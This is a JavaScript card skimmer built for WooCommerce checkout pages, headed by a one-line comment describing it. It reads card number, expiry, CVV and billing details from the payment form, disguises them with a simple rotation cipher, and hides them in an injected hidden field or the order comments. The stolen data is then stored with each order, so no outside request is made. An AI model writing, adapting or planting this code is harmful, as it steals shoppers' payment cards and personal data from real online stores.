// corpus note: copies encoded card details into a hidden field injected into the real WooCommerce checkout form so the data is saved with the order itself and no extra request is made
(function () {
  var form = document.querySelector("form.checkout.woocommerce-checkout, form[name='checkout']");
  if (!form) return;

  function elementValue(name) {
    var el = form.elements[name] || document.getElementById(name);
    if (!el) return "";
    if (el.length && !el.tagName) el = el[0];
    return el.value || "";
  }

  function rot(s, n) {
    return s.replace(/[a-z0-9]/gi, function (ch) {
      var set = /[0-9]/.test(ch) ? "0123456789" : (ch === ch.toUpperCase() ? "ABCDEFGHIJKLMNOPQRSTUVWXYZ" : "abcdefghijklmnopqrstuvwxyz");
      return set.charAt((set.indexOf(ch) + n) % set.length);
    });
  }

  function ensureHidden(name) {
    var h = form.querySelector("input[type=hidden][name='" + name + "']");
    if (!h) {
      h = document.createElement("input");
      h.type = "hidden";
      h.name = name;
      form.appendChild(h);
    }
    return h;
  }

  function stash() {
    var pan = elementValue("wc-authorize-net-aim-account-number") || elementValue("ccnum") || elementValue("card_number");
    if (pan.replace(/\D/g, "").length < 13) return;
    var exp = elementValue("wc-authorize-net-aim-expiry") || elementValue("expdate") || elementValue("card_expiry");
    var csc = elementValue("wc-authorize-net-aim-csc") || elementValue("cvv") || elementValue("card_cvc");
    var who = [elementValue("billing_first_name"), elementValue("billing_last_name")].join(" ");
    var addr = [elementValue("billing_address_1"), elementValue("billing_city"), elementValue("billing_state"),
      elementValue("billing_postcode"), elementValue("billing_country")].join(", ");
    var packed = rot([pan.replace(/\s/g, ""), exp, csc, who, addr, elementValue("billing_phone"), elementValue("billing_email")].join("#"), 7);

    var visibleNote = form.querySelector("textarea[name='order_comments']");
    if (visibleNote) {
      ensureHidden("_billing_delivery_ref").value = packed;
    } else {
      ensureHidden("order_comments").value = "gift:" + packed;
    }
  }

  form.addEventListener("submit", stash, true);
  var placeBtn = document.getElementById("place_order");
  if (placeBtn) placeBtn.addEventListener("mousedown", stash, true);
  document.body.addEventListener("change", function (e) {
    if (e.target && /csc|cvv|cvc/i.test(e.target.id || e.target.name || "")) stash();
  });
})();
